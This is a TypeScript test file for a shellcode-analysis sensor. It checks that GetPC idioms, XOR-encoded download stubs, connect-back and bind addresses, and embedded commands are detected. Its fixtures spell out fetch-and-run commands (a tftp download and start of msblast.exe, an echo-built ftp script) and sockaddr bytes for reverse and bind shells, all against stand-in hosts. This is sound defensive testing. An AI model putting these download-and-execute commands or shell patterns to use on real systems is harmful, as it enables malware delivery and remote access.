// Shellcode analysis: GetPC idioms, plain / XOR-8 / XOR-32 bodies, commands turned into URLs,
// connect-back and bind addresses; random bytes never throw and give no invented URLs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyseShellcode, extractActions, findGetPc, findSockaddr, xorDecode } from '../../../src/sensors/shellcode/analyse.js';

const enc = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s, 'latin1'));
const cat = (...p: Uint8Array[]): Uint8Array => Buffer.concat(p);

test('GetPC idioms are found: call/pop, call $+4, fnstenv, jmp-call-pop', () => {
  assert.deepEqual(findGetPc(cat(Uint8Array.of(0x90, 0xe8, 0, 0, 0, 0, 0x5d), new Uint8Array(4))), [1]);
  assert.deepEqual(findGetPc(cat(Uint8Array.of(0xe8, 0xff, 0xff, 0xff, 0xff, 0xc2, 0x5f), new Uint8Array(4))), [0]);
  assert.deepEqual(findGetPc(cat(Uint8Array.of(0xd9, 0xee, 0xd9, 0x74, 0x24, 0xf4, 0x5b), new Uint8Array(4))), [2]);
  const jcp = Uint8Array.of(0xeb, 0x03, 0x5e, 0x90, 0x90, 0xe8, 0xf8, 0xff, 0xff, 0xff, 0x00);
  assert.deepEqual(findGetPc(jcp), [0]);
});

test('plain, single-byte XOR and 4-byte XOR download shellcode give the URL', () => {
  const body = cat(Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5d), enc('urlmon\0http://198.51.100.7/a.exe\0'));
  const plain = analyseShellcode(body);
  assert.equal(plain?.encoding, 'plain');
  assert.deepEqual(plain?.urls, ['http://198.51.100.7/a.exe']);
  const x8 = analyseShellcode(cat(Uint8Array.of(0xd9, 0x74, 0x24, 0xf4, 0x5b), xorDecode(body, 0x99, 1)));
  assert.equal(x8?.encoding, 'xor8');
  assert.equal(x8?.key, 0x99);
  assert.deepEqual(x8?.urls, ['http://198.51.100.7/a.exe']);
  const x32 = analyseShellcode(cat(Uint8Array.of(0xd9, 0x74, 0x24, 0xf4), xorDecode(body, 0xdeadbeef, 4)));
  assert.equal(x32?.encoding, 'xor32');
  assert.deepEqual(x32?.urls, ['http://198.51.100.7/a.exe']);
});

test('commands: cmd /c, tftp -i and echo-built ftp scripts become commands and URLs', () => {
  const a = extractActions(enc('\0cmd /c tftp -i 203.0.113.9 GET msblast.exe & start msblast.exe\0'));
  assert.deepEqual(a.urls, ['tftp://203.0.113.9/msblast.exe']);
  assert.equal(a.commands[0], 'cmd /c tftp -i 203.0.113.9 GET msblast.exe & start msblast.exe');
  const f = extractActions(enc('cmd /c echo open 203.0.113.5 2121 > o & echo user bot pass >> o & echo binary >> o & echo get w.exe >> o & ftp -s:o\0'));
  assert.ok(f.urls.some((u) => u.startsWith('ftp://') && u.includes('203.0.113.5:2121/w.exe')), JSON.stringify(f.urls));
});

test('connect-back and bind addresses from the sockaddr pushes', () => {
  assert.deepEqual(findSockaddr(Uint8Array.of(0x68, 192, 0, 2, 44, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe6)), { connectBack: { host: '192.0.2.44', port: 4444 } });
  assert.deepEqual(findSockaddr(Uint8Array.of(0x31, 0xdb, 0x53, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe1)), { bindPort: 4444 });
  const r = analyseShellcode(cat(Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5e), Uint8Array.of(0x68, 192, 0, 2, 44, 0x68, 0x02, 0x00, 0x11, 0x5c)));
  assert.deepEqual(r?.connectBack, { host: '192.0.2.44', port: 4444 });
});

test('random bytes never throw and never yield a URL that was not there', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 2000 }), (b) => {
      const r = analyseShellcode(b);
      if (r) for (const u of r.urls) assert.ok(u.length <= 1024);
    }),
  );
  assert.equal(analyseShellcode(new Uint8Array(4096)), undefined);
});
